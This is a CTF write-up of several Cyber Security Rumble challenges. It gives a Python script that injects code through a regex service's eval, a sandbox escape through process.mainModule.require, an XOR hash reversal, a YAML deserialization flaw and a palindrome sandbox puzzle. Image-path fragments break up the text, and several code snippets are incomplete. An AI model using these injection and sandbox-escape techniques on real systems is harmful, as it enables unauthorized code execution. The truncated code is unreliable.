During the Halloween weekend, NVISO together with RedRocket organized the Cyber Security Rumble and I participated. These are my solutions to all the challenges I was able to solve.


I really liked the style of challenges in this CtF, as all of the challenges felt “fair” in the way that solving them didn’t require knowledge of weird, unused technologies or esoteric languages. That being said some of them were extremely hard and demanded a ton of work.

Teams were allowed to have up to 6 players, and in total 977 teams (most of them probably solo players) registered. Out ofthose, 474 submitted at least one flag.

Challenges were organized into 6 levels of difficulty, those being “NotSpooky”, “Sp00py”, “PSpoopy”, “Sp🅾🅾ky”, “2Spooky”, all the way up to “5Spooky7Me” (although that last one was a pure troll as the only challenge at that level was trivial, as you’ll see), ranging from 100 to 500 base points (disregarding the 1337 points for the troll challenge). Points were awarded on a 50/50 static/dynamic system, meaning that depending on how manyplayers solved a Challenge, it was worth something between the listed base points up to double that amount. Categories were quire diverse: “C”, “asm”, “bash”, “cry”, “ethereum”, “js”, “math”, “misc”, “mobile”, “net”, “pwn”, “py”, “rev”, “tls”, “web”. In total there were 31 Challenges plus the troll one and a bonus “social” Challenge, that awarded no points, but helped entertain the organizers.

With all of that out of the way, let’s dive into the Challenges.




Level: NotSpooky

Points: 100

Categories: WebAuthor: molatho|nviso


Stop pwning,start learning REGEX! This is such a fine way to ESCAPE the real world… http://chal.cybersecurityrumble.de:9876


Let’s look at the website first:


It allows us to input some text and do a RegEx search over it. It also is nice enough to show us the resulting JavaScript code, that is presumably running on the server. If we play around with the inputs a bit we can see, that there is no filtering going on and we can execute arbitrary code:


Let’s have a look what’s happening behind the scenes. If we look at the request in Burp Suite it look like this:


Our input is Base64 encoded and the result from the server is a simple JSON object. To figure out which fields in the request are which we could either look at the website JS or decode the three strings. I did the latter.


Now that we know how the site is working it’s time to write a small script to make code execution easier. After some fiddling and some error catching this is the script I ended up with:

#!/usr/bin/env python3

import requests
import base64import json

while True:
    javascript = input('> ');

    text = f"AAA' + eval(\"{javascript}\") + 'BBB"
    text_b64 = base64.urlsafe_b64encode(text.encode()).decode()

    ans = requests.get(f"http://chal.cybersecurityrumble.de:9876/api/regex/QkJC/Z2kg/{text_b64}")

    ans_json = json.loads(ans.text)

    if 'error' in ans_json:
        print(f"Error!: {ans_json['error']}")
    elif 'result' in ans_json:
        result = ans_json['result'].lstrip('AAA').rstrip('BBB')

It runs a small loop, asks for input, encodes it in the right format, sends it to the server and displays the result. We can test it withsomething small:

> 40+2

Alright, time to look around. First I wanted to look at the function the code is running in:

> arguments.callee
function anonymous(
) {
var _result = 'AAA' + eval("arguments.callee") + 'BBB'.match(/BBB/gi ); return _result;

Nothing much to see here. Next I wanted to see if anything interesting is in scope that we can use (I shortened the output a bit):

> out=''; for(name in this) {out += name + ':' + this[name];}; out
simpleFs:class SimpleFs {
    static exists(path) { [..] }

    static readFile(path) { [..] }

    static readFileSync(path) { [..] }

    static writeFile(path, contents) { [..] }

    static writeFileSync(path, contents) { [..] }

    static appendFile(path, contents) { [..] }

    static appendFileSync(path, contents) { [..] }

Looks like we can read files with a library called simple-fs. But we can’t list directory contents and we don’t know the name of the flag file. I tried reading the source file itself (using the commands this['simpleFs'].readSync('/proc/self/cmdline') and this['simpleFs'].readSync('index.js')), but didn’t find anything useful. If we try to use the standard library fs or import it using require we get the following errors:

> fs.readdir('.')
Error!: Unexpected identifier
> var fs = require('fs'); fs.readdir('.')
Error!: require is not defined

But we can get around this by calling in this way:

> var fs = process.mainModule.require('fs'); fs.readdir('.')
>this['simpleFs'].readSync('dockerfile')
from mhart/alpine-node:12
COPY . .
RUN apk update
RUN apk upgrade
RUN apk add bash
RUN apk add curl
RUN npm install
RUN chown root:root .
RUN chmod -R 755 .
RUN adduser -D -g '' server
RUN touch requests.log
RUN chown server:server requests.log
RUN chmod +s /usr/bin/curl
RUN echo 'CSR{r363x_15_fun_r363x_15_l0v3}' > /root/flaggerino_flaggeroni.toxt
RUN chmod 640 /root/flaggerino_flaggeroni.toxt
RUN chmod 744 /root
USER server
CMD [ "node", "index.js"]

There is the flag.



Level: NotSpooky

Points: 100Categories: Web

Author: rugo|RedRocket


We had problems with hackers, but now we got a enterprise firewall system build by a leading security company.


The firewall welcomes us with a login screen:


But if we look at the source code, we can clearly see that the password is written in cleartext and is only checked with JavaScipt. Using that we login and find different functionalities, the most interesting being a ping function:


It is vulnerable to classic code injection.Level: NotSpooky

Points: 100

Categories: Cry

Author: rugo|RedRocket


I guess there is no way to recover the flag. Files


The file to download is the following:

from secret import FLAG

def hashfun(msg):
    digest = []
    for i in range(len(msg) - 4):
        digest.append(ord(msg[i]) ^ ord(msg[i + 4]))
    return digest

# [10, 30, 31, 62, 27, 9, 4, 0, 1, 1, 4, 4, 7, 13, 8, 12, 21, 28, 12, 6, 60]

It is implementing a custom “hash” function and we only have the result of the hashed flag. But the implementation is deeply flawed. The hash works like this on the example string “BadCrypto”:

  B a d C r =  66  97 100  67 114
^ r y p t o = 114 121 112 116 111
               48  24  20  55  29

So every element from the input is XOR’ed with the element 4 down the line. But since every flag is starting with the string CSR{ we know the first 4 characters of the input and can therefore calculate the next 4 characters from the original and so forth. Here is a script to automate that:

#!/usr/bin/env python3

def reverse(digest):
    recovered = "CSR{"
    for i in range(len(digest)):
        recovered += (chr( ord(recovered[i]) ^ digest[i]  ))

reverse([10, 30, 31, 62, 27, 9, 4, 0, 1, 1, 4, 4, 7, 13, 8, 12,21, 28, 12, 6, 60])

wheels n whales


Level:NotSpooky

Points: 100

Categories: Web

Author: gina|RedRocket


I’ve heard that whales and wheels are the new hot thing. So a buddy of mine build a website where you can get your own. I think he hid an easter egg somewhere, but I can’t get to it, can you help me? web.py


This is a website that let’s us create either whales or wheels.




From the source code we can see that in order to get the flagwe would need to create a whale with a specific set or parameters including a really lone name. However the name we can input is limited to 10 characters.

But there is also another quite interesting part in the code and it’s this one:

class Wheel:
    def from_configuration(config):
        return Wheel(**yaml.load(config, Loader=yaml.Loader))

@app.route("/wheel", methods=["GET", "POST"])
def wheel():
    ifrequest.method == "POST":
        if "config" in request.form:
            wheel = Wheel.from_configuration(request.form["config"])
            return make_response(render_template("wheel.html.jinja", w=wheel, active="wheel"), 200)

So we can not only create a wheel by submitting the parameters directly as POST variables, but also by submitting a config object, which well that get loaded via yaml.load.


YAML is vulnerable to deserialization attacks like outlined in this paper. We can use that to get the flag:




Level: NotSpooky

Points: 100

Categories: Rev, C

Author: rugo|RedRocket


For the CSR we finally created a deutsche Programmiersprache!

nc chal.cybersecurityrumble.de 65123 haupt.c


For this challenge we get a file of C code.

#include <stdio.h>#include <stdlib.h>
#include "fahne.h"

#define Hauptroutine main
#define nichts void
#define Ganzzahl int
#define schleife(n) for (Ganzzahl i = n; i--;)
#define bitrverschieb(n, m) (n) >> (m)
#define diskreteAddition(n, m) (n) ^ (m)
#define wenn if
#define ansonsten else
#define Zeichen char
#define Zeiger *
#define Referenz &
#define Ausgabe(s) puts(s)
#define FormatAusgabe printf
#define FormatEingabe scanf
#define Zufall rand()
#define istgleich =
#define gleichbedeutend ==

nichts Hauptroutine(nichts) {
    Ganzzahl i istgleich Zufall;
    Ganzzahl k istgleich 13;
    Ganzzahl e;
    Ganzzahl Zeiger p istgleich Referenz i;

    FormatAusgabe("%d\n", i);
    FormatEingabe("%d %d", Referenz k, Referenz e);

        k istgleich bitrverschieb(Zeiger p, k % 3);

    k istgleich diskreteAddition(k, e);

    wenn(k gleichbedeutend 53225)
        Ausgabe("War wohl nichts!");

The program is asking us for two numbers, performing some calculations and only if the result is as expected do we get the flag. (Fun fact: The random number is never even used, no idea why it is even output to the user).

Even though German is my mother tongue I had a hard time reading the code, so I translated it back and simply added code to output the correct second value after inputting the first one.

#include <stdio.h>
#include <stdlib.h>

void main(void) {
    int i = rand();
    int k = 13;
    int e;
    int * p = & i;

    printf("%d\n", i);
    scanf("%d", & k);for (int i = 7; i--;)
        k = (* p) >>  (k % 3);

    e = k ^ 53225;
    printf("%d\n", e);

With this we can easily solve the challenge.


“Rueckwartsingeneuren” is a crude - and misspelt - translation of “Reverse Engineering”.



Level: PSpoopy

Points: 300

Categories: misc, pyAuthor: lukas2511|RedRocket


No description.

nc chal.cybersecurityrumble.de 7809


Pylindrome was a really fun and cool challenge. If we connect to the port we don’t get anything back on it’s own. We first have to input something arbitrary and get the source code running on the backend:

#!/usr/bin/env python3

import subprocess

def sandbox(toexec):
    return subprocess.check_output(["sudo", "-u", "sandbox", "python3", "-c", toexec]).decode().strip()

    code = input()[:100]
    for bad in ['#', '"""', "'''"]:
        code = code.replace(bad, "")assert code == code[::-1]

So we need to input something that is at most 100 characters long. After that every kind of Python comment is filtered out (including multi-line strings, which technically aren’t comments but can be used as such). Afterwards the code checks if our input is a palindrome. If that is the case we enter a two step process: First our code is handed of to a “sandboxed” python -c call. The result from that python run is then put into exec().

My solution was to try and use a combination of string quotes and escaping to have the mirrored version of my payload be ignored by the interpreter. The basic idea goes like that:


